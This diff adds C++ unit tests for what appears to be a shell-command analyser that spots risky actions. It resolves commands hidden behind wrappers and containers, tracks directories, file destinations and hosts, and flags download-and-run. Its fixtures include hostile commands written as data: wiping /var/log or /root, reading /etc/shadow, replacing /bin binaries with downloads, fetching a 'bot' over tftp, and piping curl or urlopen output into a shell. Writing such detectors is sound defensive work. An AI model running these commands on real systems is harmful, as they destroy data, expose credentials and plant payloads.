@@ -123,6 +123,116 @@ TEST(CommandLine, SeesWhatACarriedShellRuns) {
                 Contains("wget http://a.example/x"));
 }
 
+TEST(CommandLine, ReadsWhatIsCarriedBesideTheCarrier) {
+    for (const std::string_view line : {"flock -n /tmp/l id -u",
+                                        "watch -n 5 id -u",
+                                        "watch 'id -u'",
+                                        "strace -o /dev/null -f id -u",
+                                        "systemd-run --unit x --scope id -u",
+                                        "unshare -r -m id -u",
+                                        "nsenter -t 1 -m -u -- id -u",
+                                        "runuser -u bob -- id -u",
+                                        "gosu nobody id -u",
+                                        "sshpass -p x id -u",
+                                        "torsocks id -u",
+                                        "screen -dmS name id -u",
+                                        "tmux new-session -d -s x 'id -u'",
+                                        "/lib64/ld-linux-x86-64.so.2 id -u",
+                                        "cpulimit -l 50 -- id -u",
+                                        "start-stop-daemon -S -b --exec id -- -u",
+                                        "env -S 'id -u'",
+                                        "k3s kubectl exec p -- id -u",
+                                        "sudo flock /tmp/l timeout 5 id -u",
+                                        "find . -name x -exec true {} \\; -exec id -u \\;"}) {
+        EXPECT_THAT(texts(line), Contains("id -u")) << line;
+    }
+    EXPECT_THAT(texts("watch -n 5 id -u"), Contains("watch -n 5 id -u"));
+    EXPECT_THAT(texts("timeout -t 5 id -u"), ElementsAre("id -u"));
+}
+
+TEST(CommandLine, ReadsWhatRunsInAContainer) {
+    for (const std::string_view line :
+         {"docker run --rm -it -v /:/h -e A=b --name x alpine:3 id -u", "docker exec -it -u root c id -u",
+          "docker -H tcp://10.0.0.1:2375 run --network host alpine id -u",
+          "podman run -p8080:80 -d img id -u", "docker container exec c id -u",
+          "docker-compose exec web id -u", "kubectl exec -n x -it p -c c -- id -u", "lxc exec c -- id -u",
+          "crictl exec -it 1f id -u", "ctr run --rm docker.io/a c1 id -u"}) {
+        EXPECT_THAT(texts(line), Contains("id -u")) << line;
+    }
+    EXPECT_THAT(texts("kubectl get pods"), ElementsAre("kubectl get pods"));
+    EXPECT_THAT(texts("docker ps -a"), ElementsAre("docker ps -a"));
+}
+
+TEST(CommandLine, FollowsTheDirectoryThatTheLineGoesTo) {
+    EXPECT_THAT(list("cd /var/log && rm -rf *", CommandList::Paths, 1), ElementsAre("/var/log/*"));
+    EXPECT_THAT(list("cd /var; cd log; rm a", CommandList::Paths, 2), ElementsAre("/var/log/a"));
+    EXPECT_THAT(list("cd /tmp || cd /mnt; rm a", CommandList::Paths, 2), ElementsAre("/tmp/a"));
+    EXPECT_THAT(list("cd /etc; echo x > passwd", CommandList::Writes, 1), ElementsAre("/etc/passwd"));
+    EXPECT_THAT(list("cd $HOME; rm a", CommandList::Paths, 1, "/srv"), ElementsAre("a"));
+    EXPECT_THAT(list("cd -; rm a", CommandList::Paths, 1), ElementsAre("a"));
+    EXPECT_THAT(list("cd sub; rm a", CommandList::Paths, 1), ElementsAre("a"));
+    EXPECT_THAT(list("cd sub; rm a", CommandList::Paths, 1, "/srv"), ElementsAre("/srv/sub/a"));
+    EXPECT_THAT(list("sh -c 'cd /etc; cat shadow'", CommandList::Paths, 2), ElementsAre("/etc/shadow"));
+    EXPECT_THAT(list("cat ~bob/.profile ~/x", CommandList::Paths),
+                ElementsAre("/home/bob/.profile", "/root/x"));
+    EXPECT_TRUE(any_has("cd /tmp; nohup ./x", Fact::RunsLocalInTemp));
+    EXPECT_TRUE(any_has("cd /dev/shm && nohup sh run.sh", Fact::RunsLocalInTemp));
+    EXPECT_FALSE(any_has("cd /opt; nohup ./x", Fact::RunsLocalInTemp));
+    EXPECT_FALSE(any_has("cd /tmp; tar xf a", Fact::RunsLocalInTemp));
+}
+
+TEST(CommandLine, KnowsWhereFilesAreLeft) {
+    const auto left = [](std::string_view line) { return list(line, CommandList::Destinations); };
+    EXPECT_THAT(left("cp -f a/ps /bin"), ElementsAre("/bin", "/bin/ps"));
+    EXPECT_THAT(left("cp -t /bin a/ps b/ls"), ElementsAre("/bin", "/bin/ps", "/bin/ls"));
+    EXPECT_THAT(left("install -m 755 x /usr/sbin/../bin/su"), Contains("/usr/bin/su"));
+    EXPECT_THAT(left("dd if=x of=/bin//login"), ElementsAre("/bin/login"));
+    EXPECT_THAT(left("tee -a /etc/passwd > /dev/null"), ElementsAre("/dev/null", "/etc/passwd"));
+    EXPECT_THAT(left("curl -sSLo /bin/top http://a.example/t"), ElementsAre("/bin/top"));
+    EXPECT_THAT(left("curl -O http://a.example/d/t?x=1"), ElementsAre("t"));
+    EXPECT_THAT(left("curl http://a.example/d/t"), ElementsAre());
+    EXPECT_THAT(left("wget -P /usr/bin http://a.example/curl"), ElementsAre("/usr/bin/curl"));
+    EXPECT_THAT(left("wget --output-document=/bin/ss http://a.example/x"), ElementsAre("/bin/ss"));
+    EXPECT_THAT(left("wget -qO- http://a.example/x"), ElementsAre());
+    EXPECT_THAT(left("tftp -g -r bot -l /tmp/b 203.0.113.5"), ElementsAre("/tmp/b"));
+    EXPECT_THAT(left("tftp 203.0.113.5 -c get bot"), ElementsAre("bot"));
+    EXPECT_THAT(left("ftpget -u a -p b 203.0.113.5 /tmp/x y"), ElementsAre("/tmp/x"));
+    EXPECT_THAT(left("scp root@203.0.113.5:/d/x ."), Contains("x"));
+    EXPECT_THAT(left("scp x root@203.0.113.5:/d"), ElementsAre());
+    EXPECT_THAT(left("ls /bin"), ElementsAre());
+}
+
+TEST(CommandLine, ReadsWordsInBracesAsSeveral) {
+    EXPECT_THAT(list("cat /etc/{passwd,shadow}", CommandList::Paths),
+                ElementsAre("/etc/passwd", "/etc/shadow"));
+    EXPECT_THAT(list("cp /tmp/{ls,ps} /bin/", CommandList::Destinations),
+                ElementsAre("/bin", "/bin/ls", "/bin/ps"));
+    EXPECT_THAT(list("rm -rf /root/{*,.*}", CommandList::Paths), ElementsAre("/root/*", "/root/.*"));
+    EXPECT_THAT(list("echo ${a,b} {a} x}", CommandList::Paths), ElementsAre("${a,b}", "{a}", "x}"));
+}
+
+TEST(CommandLine, TakesAnOptionsWordForNoScript) {
+    EXPECT_TRUE(any_has("python -W ignore run.sh", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("bash -o pipefail a.py", Fact::ScriptMismatch));
+    EXPECT_FALSE(any_has("php -d memory_limit=1 a.php", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("dash ./A.PY", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("curl -s http://a.example/x | xargs -0 sh -c", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("curl -s http://a.example/x | xargs -0 sh -c 'echo \"$1\"' _", Fact::RunsDownload));
+}
+
+TEST(CommandLine, AsksNoHostOfAQuery) {
+    EXPECT_THAT(list("wget http://a.example/?u=http://b.example/x", CommandList::Hosts),
+                ElementsAre("a.example"));
+    EXPECT_THAT(list("curl -d u=http://b.example/?x http://a.example/", CommandList::Hosts),
+                ElementsAre("b.example", "a.example"));
+}
+
+TEST(CommandLine, KnowsWhoseHomesAreLookedInto) {
+    EXPECT_THAT(list("cat /home/bob/.bash_history ~eve/x /root/y ~/z", CommandList::Homes),
+                ElementsAre("bob", "eve", "root"));
+    EXPECT_THAT(list("ls /home /home/bob /etc", CommandList::Homes), ElementsAre());
+}
+
 TEST(CommandLine, KnowsCodeThatFetchesAndRuns) {
     EXPECT_TRUE(any_has(
         "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://a.example/x').read())\"",
